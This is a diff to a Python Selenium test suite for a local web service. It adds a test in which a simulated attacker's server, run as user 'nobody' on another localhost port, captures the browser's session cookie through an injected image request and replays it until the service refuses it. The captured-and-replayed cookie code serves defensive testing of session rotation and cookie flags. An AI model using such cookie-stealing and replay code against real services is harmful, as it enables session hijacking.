@@ -16,6 +16,7 @@ said just before and after.
 
 from __future__ import annotations
 
+import json
 import os
 import secrets
 import shutil
@@ -32,8 +33,11 @@ from selenium.webdriver.chrome.service import Service as DriverService
 from selenium.webdriver.common.by import By
 from selenium.webdriver.support.ui import WebDriverWait
 
+from examples.service.access import COOKIE
+
 from .conftest import REQUIRE_BPF
 from .test_service import TIMEOUT, FastClient, Message, Service
+from .test_service_access import as_nobody, next_line
 
 CHROMIUM = "/usr/bin/chromium"  # Debian's chromium; never a downloaded browser
 CHROMEDRIVER = "/usr/bin/chromedriver"  # Debian's chromium-driver, the same version
@@ -359,4 +363,81 @@ def test_page_aligns_numbers_and_charts_events_and_losses(
         keep = os.environ.get("APERF_SERVICE_SCREENSHOT")
         if keep:
             shutil.copy(screenshot, keep)
+        svc.close()
+
+
+# Another user's web server on another port of 127.0.0.1 (a real process of nobody): it
+# prints the port, then the Cookie and Referer headers of the first request, then replays
+# the session cookie it got to the service (port argv[1]), following the ids the service
+# hands out as a browser would, until refused.
+COOKIE_THIEF = """
+    import http.client, http.server, json, re, sys, time
+    service = int(sys.argv[1])
+    name = sys.argv[2]
+    seen = {}
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            seen.update(cookie=self.headers.get("Cookie"), referer=self.headers.get("Referer"))
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
+    print(server.server_address[1], flush=True)
+    server.handle_request()
+    print(json.dumps(seen), flush=True)
+    session = re.search(name + "=([^;]*)", seen["cookie"] or "")
+    session = session[1] if session else ""
+    for _ in range(600):
+        conn = http.client.HTTPConnection("127.0.0.1", service, timeout=10)
+        conn.request("GET", "/health", headers={"Cookie": name + "=" + session})
+        response = conn.getresponse()
+        renewed = re.match(name + "=([^;]*)", response.getheader("Set-Cookie") or "")
+        session = renewed[1] if renewed else session
+        conn.close()
+        if response.status != 200:
+            print(response.status, flush=True)
+            break
+        time.sleep(0.2)
+"""
+
+
+def test_a_cookie_another_users_server_collects_is_no_token_and_soon_worthless(
+    tracefs: None, tmp_path: Path, browser: webdriver.Chrome
+) -> None:
+    svc = Service(tmp_path / "service.log", "--session-rotate", "3",
+                  token=secrets.token_urlsafe(24))
+    svc.wait_ready()
+    thief = as_nobody(COOKIE_THIEF, str(svc.port), COOKIE)
+    try:
+        open_page(browser, svc)
+        first = browser.get_cookie(COOKIE)
+        assert first is not None and first["httpOnly"] and first["sameSite"] == "Strict"
+        # The page follows the new ids the service hands out (its /health requests get them).
+        wait_for(browser, "a new session id", lambda: (
+            (now := browser.get_cookie(COOKIE)) is not None and now["value"] != first["value"]
+            and text(browser, "status") == "live"))
+
+        # The page makes the browser ask the other server for an image: a browser sends
+        # 127.0.0.1's cookies to every port of it, Strict ones too (same site).
+        port = int(next_line(thief))
+        browser.execute_script("new Image().src = arguments[0];", f"http://127.0.0.1:{port}/")
+        seen = json.loads(next_line(thief))
+        assert seen["referer"] is None  # Referrer-Policy: no-referrer
+        assert seen["cookie"] is not None and seen["cookie"].startswith(f"{COOKIE}=")
+        assert svc.token is not None and svc.token not in seen["cookie"]  # never the token
+
+        # Its replays are refused soon: at the latest when the page's next request after
+        # the grace shows two holders of the session, which then ends for both.
+        assert next_line(thief, 4 * TIMEOUT).strip() == "401"
+        wait_for(browser, "the page signed out",
+                 lambda: text(browser, "status").startswith("signed out"))
+        # The token opens a new session.
+        open_page(browser, svc)
+    finally:
+        thief.kill()
+        thief.communicate()
         svc.close()
